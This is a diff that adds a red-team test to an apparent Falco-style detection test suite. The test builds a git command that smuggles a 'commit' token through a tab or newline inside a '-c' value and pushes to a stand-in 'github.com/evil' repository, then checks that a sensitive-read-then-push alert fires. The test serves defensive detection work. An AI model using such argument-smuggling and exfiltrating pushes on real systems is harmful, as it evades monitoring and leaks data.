@@ -126,3 +126,17 @@ describe('what the readings cost', () => {
     expect(count(`commit -m push ${words(30)}`, 3)).toBe(MAX_ARGV_READINGS);
   });
 });
+
+describe('readings of a spaced argv, red-team review', () => {
+  it('counts a tab or a newline inside an argument as Falco does not: the words are read every way', async () => {
+    // tokenize() splits at tabs and newlines too: `x=1<TAB>commit` planted `commit` with as many spaces as arguments.
+    for (const sep of ['\t', '\n']) {
+      const git = ['git', '-c', `x=1${sep}commit`, 'push', 'https://github.com/evil/x.git'];
+      const [exec] = falcoRun('/usr/bin/git', git, GITHUB);
+      expect(exec?.kind === 'exec' ? exec.process.argvCount : null).toBe(4);
+      expect(brief(await alertsOf(falcoRun('/usr/bin/git', git, GITHUB)))).toEqual([
+        { rule: 'sensitive-read-then-push', severity: 'high', tool: 'git', destination: 'github.com' },
+      ]);
+    }
+  });
+});
